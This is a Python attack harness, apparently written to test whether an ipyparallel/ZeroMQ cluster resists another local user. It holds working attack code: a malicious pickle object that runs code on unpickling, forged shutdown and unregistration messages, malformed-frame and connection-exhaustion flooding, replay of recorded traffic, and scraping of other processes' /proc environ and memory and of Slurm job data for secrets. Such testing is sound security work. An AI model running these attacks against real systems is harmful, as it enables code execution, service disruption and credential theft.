"""Attacks on a run's ports, by another user: python attack.py, with the order as JSON on standard input.

{"attack": "speak", "ports": [[address, port], …], "idents": […], "file": path, "key": "" or the server's}
    sends in ZMTP, without encryption, with a password, and with CURVE, the messages of clients and engines:
    a function whose unpickling makes the file, a shutdown, a death of each engine; and listens. With `key` it
    does so with CURVE and as itself: the attack that must succeed.
{"attack": "noise", "ports": …, "frames": 10000, "seconds": …}
    holds silent sockets, dribbles bytes, sends frames of random bytes and lengths that no memory holds.
{"attack": "again", "ports": …, "streams": [hexadecimal, …]}
    sends recorded bytes again.
{"attack": "spy", "places": [directory, …], "secrets": […]}
    reads all that it can of the processes of the node and of the files in those directories, and asks Slurm;
    reports where it has met a secret, how much it has read, and how many processes' environments it could see.

It ends when its standard input does, and holds until then what it has opened; what it did is one line of JSON.
"""

import contextlib
import itertools
import json
import os
import random
import resource
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from typing import Any

import zmq
from ipyparallel.serialize import pack_apply_message
from jupyter_client.session import Session

NOBODY = 65534
GREETINGS = [
    b"\xff" + bytes(8) + b"\x7f\x03" + minor + name.ljust(20, b"\0") + server + bytes(31)
    for name in (b"CURVE", b"NULL", b"PLAIN")
    for minor in (b"\0", b"\1")
    for server in (b"\0", b"\1")
]


def become_nobody() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)


class Evil:
    """Object whose unpickling makes a file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return open, (self.path, "w")


# -- speak: valid messages ---------------------------------------------------------------------------------
def messages(order: dict[str, Any]) -> list[list[bytes]]:
    """Return messages of a client to engines, by direct and task scheduler, and of engines to the hub."""
    session = Session(key=b"")
    apply = [session.serialize(session.msg("apply_request", {})), pack_apply_message(Evil(order["file"]), (), {})]
    found = [[*apply[0], *apply[1]]]
    for ident in order["idents"]:
        found.append([ident.encode(), *apply[0], *apply[1]])
        if not order["key"]:
            found.append([ident.encode(), *session.serialize(session.msg("shutdown_request", {"restart": False}))])
    for number in range(0 if order["key"] else len(order["idents"])):
        found.append(session.serialize(session.msg("unregistration_request", {"id": number})))
    return found


def secure(peer: zmq.Socket, mechanism: str, key: str) -> None:
    if mechanism == "curve":
        peer.curve_serverkey = key.encode() if key else zmq.curve_keypair()[0]
        peer.curve_publickey, peer.curve_secretkey = zmq.curve_keypair()
    elif mechanism == "plain":
        peer.plain_username = b"nobody"
        peer.plain_password = b"password"


def open_peers(order: dict[str, Any]) -> list[zmq.Socket]:
    """Return for each port a peer of each mechanism and of each kind of socket that ipyparallel connects."""
    peers = []
    for address, port in order["ports"]:
        for mechanism in ("curve",) if order["key"] else ("null", "plain", "curve"):
            for kind in (zmq.DEALER, zmq.PUB, zmq.SUB):
                peer = zmq.Context.instance().socket(kind)
                peer.linger = peer.sndtimeo = 0
                secure(peer, mechanism, order["key"])
                if kind == zmq.SUB:
                    peer.subscribe(b"")
                peer.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)  # made once, and then the same
                peers.append(peer)
                peer.connect(f"tcp://{address}:{port}")
    return peers


def speak(order: dict[str, Any]) -> dict[str, int]:
    """Send all messages to all ports; return the number of peers that accepted us, and of frames received."""
    spoken, peers = messages(order), open_peers(order)
    monitors = [peer.get_monitor_socket() for peer in peers]
    poller = zmq.Poller()
    for peer in (*monitors, *(peer for peer in peers if peer.type != zmq.PUB)):
        poller.register(peer, zmq.POLLIN)
    counts, end = {"received": 0, "accepted": 0}, time.monotonic() + 2
    for round_end in (end - 1.5, end - 1, end):
        for peer in peers:
            if peer.type == zmq.PUB or (peer.type == zmq.DEALER and round_end < end - 1):
                for frames in spoken:  # a PUB drops messages until it is accepted, hence the rounds
                    with contextlib.suppress(zmq.Again):  # the peer has closed the connection
                        peer.send_multipart(frames)
        while (left := round_end - time.monotonic()) > 0:
            for ready, _ in poller.poll(left * 1000):
                ready.recv_multipart()
                counts["accepted" if ready in monitors else "received"] += 1
    return counts


# -- noise: everything but valid messages ------------------------------------------------------------------
def connect(target: tuple[str, int]) -> socket.socket:
    made = socket.socket()
    made.settimeout(5)
    made.connect(tuple(target))
    made.settimeout(0.5)
    return made


def try_send(peer: socket.socket, data: bytes) -> bool:
    try:
        peer.sendall(data)
    except OSError:
        return False
    return True


def random_frame(chance: random.Random) -> bytes:
    body = chance.randbytes(chance.choice([0, 1, 8, 40, 200, 255, 1000]))
    kind = chance.randrange(6)
    if kind == 0:
        return body  # no frame at all
    if kind == 1:  # a command of CURVE, as long as it has to be, with random contents
        name, size = chance.choice([(b"\x05HELLO", 200), (b"\x08INITIATE", 257), (b"\x07MESSAGE", 33)])
        body = (name + chance.randbytes(size))[:size]
    flags = chance.choice([0, 1, 4]) if len(body) < 256 else chance.choice([2, 3, 6])
    length = len(body).to_bytes(8 if flags & 2 else 1, "big")
    return bytes([flags]) + length + body


def noise(order: dict[str, Any], held: list[socket.socket]) -> dict[str, int]:
    chance, targets = random.Random(7), order["ports"]
    for target in targets:
        for number in range(100 // len(targets) + 1):
            held.append(connect(target))  # half of them silent, half after a part of a greeting
            try_send(held[-1], GREETINGS[0][: number % 2 * 11])
        for length in (1 << 30, 1 << 62, (1 << 64) - 1):
            for flags in (b"\2", b"\6"):
                held.append(connect(target))
                greeting = chance.choice(GREETINGS)
                try_send(held[-1], greeting + flags + length.to_bytes(8, "big") + bytes(10_000))
    slow = [connect(target) for target in targets for _ in range(3)]
    held += slow
    sent, began, dribbled = 0, time.monotonic(), 0
    while sent < order["frames"]:
        peer = connect(chance.choice(targets))
        frames = [random_frame(chance) for _ in range(20)]
        if chance.random() < 0.8:
            frames.insert(0, chance.choice(GREETINGS))
        try_send(peer, b"".join(frames))
        sent += 20
        peer.close()
        if time.monotonic() > began + 0.1 * dribbled:
            for drop in slow:
                try_send(drop, GREETINGS[0][dribbled % 64 :][:1])
            dribbled += 1
    return {"sent": sent, "held": len(held)}


# -- again: what was recorded --------------------------------------------------------------------------------
def again(order: dict[str, Any], held: list[socket.socket]) -> dict[str, int]:
    """Send each stream to each port: at once, and once more in the two halves of a conversation."""
    sent = 0
    for target in order["ports"]:
        for stream in map(bytes.fromhex, order["streams"]):
            for pieces in ([stream], [stream[:64], stream[64:]]):
                peer = connect(target)
                for piece in pieces:
                    sent += try_send(peer, piece)
                    if len(pieces) > 1:
                        peer.setblocking(False)
                        time.sleep(0.002)
                held.append(peer)
    return {"sent": sent}


# -- spy: what others can read ---------------------------------------------------------------------------------
QUESTIONS = ("scontrol show job -dd", "scontrol show step", "squeue --steps", "squeue --format=%all", "ps -efww e")


def readable(places: list[str]) -> Iterator[tuple[str, bytes]]:
    """Yield name and contents of all that can be read."""
    for question in QUESTIONS:
        done = subprocess.run(question.split(), capture_output=True, timeout=20, check=False)
        yield question, done.stdout + done.stderr
    processes = [f"/proc/{pid}" for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
    names = ("cmdline", "environ", "maps", "mem", "fd/0", "fd/1", "fd/2")
    files = [f"{process}/{name}" for process in processes for name in names]
    for where, _, found in itertools.chain.from_iterable(map(os.walk, places)):
        files += [os.path.join(where, name) for name in found]
    for path in files:
        try:
            with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                yield path, file.read(1 << 24)
        except OSError:
            continue


def spy(order: dict[str, Any]) -> dict[str, Any]:
    seen = dict(readable(order["places"]))
    met = [path for path, data in seen.items() if any(secret.encode() in data for secret in order["secrets"])]
    environments = sum(path.endswith("environ") for path in seen)
    return {"met": met, "read": sum(map(len, seen.values())), "environments": environments}


def main() -> None:
    order = json.loads(sys.stdin.readline())
    become_nobody()
    signal.alarm(100)  # the longest wait for an end
    held: list[socket.socket] = []
    attacks = {"speak": lambda: speak(order), "noise": lambda: noise(order, held),
               "again": lambda: again(order, held), "spy": lambda: spy(order)}  # fmt: skip
    print(json.dumps(attacks[order["attack"]]()), flush=True)
    sys.stdin.read()
    os._exit(0)  # unsent messages of zmq would delay a normal end


if __name__ == "__main__":
    main()
